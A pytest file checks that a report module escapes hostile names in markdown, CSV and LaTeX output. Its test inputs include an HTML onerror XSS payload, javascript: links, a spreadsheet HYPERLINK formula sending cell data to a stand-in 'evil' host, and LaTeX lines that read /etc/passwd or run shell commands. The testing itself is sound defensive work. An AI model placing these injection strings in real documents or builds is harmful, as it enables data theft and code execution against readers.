"""Names that would act in a report are text in it."""

import csv
import io

import pytest

from relprop.evaluation.report.escape import block, csv_cell, in_table, inline, one_line
from relprop.evaluation.report.report import Failures, Report, failures_csv, latex, markdown

HTML = "<img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://evil/?"&A1)'


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        (HTML, "&lt;img src=x onerror=alert(1)&gt;"),
        ("[a](javascript:alert(1))", r"[a]\(javascript:alert(1))"),
        ("![a][b]", r"![a]\[b]"),
        ("[a]: http://evil", r"[a]\: http://evil"),
        ("`a` **b** \\", r"\`a\` \*\*b\*\* \\"),
        ("a\n# b", "a # b"),
        ("\x1b[2J\u202egnp", r"\x1b[2J\u202egnp".replace("\\", "\\\\")),
        ("0.812 [0.801, 0.823]", "0.812 [0.801, 0.823]"),
        ("segmentation:threshold=zero_0", "segmentation:threshold=zero_0"),
    ],
)
def test_markdown_is_flat(given, expected):
    assert inline(given) == expected


@pytest.mark.parametrize(("given", "expected"), [("# a", r"\# a"), ("- a", r"\- a"), ("1. a", r"1\. a"), ("10 rows", "10 rows")])
def test_nothing_begins_a_block(given, expected):
    assert block(given) == expected


def test_a_cell_has_no_border():
    assert in_table("a|b") == r"a\|b"


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_no_cell_is_a_formula(start):
    assert csv_cell(f"{start}1+1") == f"'{start}1+1"
    assert csv_cell(-1.5) == -1.5
    assert csv_cell("a-b") == "a-b"


def test_undecodable_names_can_be_written():
    assert one_line(b"\xff.png".decode("utf-8", "surrogateescape")).encode("utf-8") == b"\\udcff.png"


def test_a_report_of_hostile_names():
    failures = (Failures("m", "lerf", "rap", f"{HTML}\n# Heading", (FORMULA, "[a](javascript:alert(1))")),)
    report = Report("x\n\\input{/etc/passwd}", (), failures, ("note\n\\immediate\\write18{id}",))
    page = markdown(report)
    assert "<img" not in page
    assert "\n# Heading" not in page
    assert "](" not in page
    assert all(not cell.startswith("=") for row in csv.reader(io.StringIO(failures_csv(failures))) for cell in row)
    assert all(line.startswith("%") for line in latex(report).splitlines() if line)
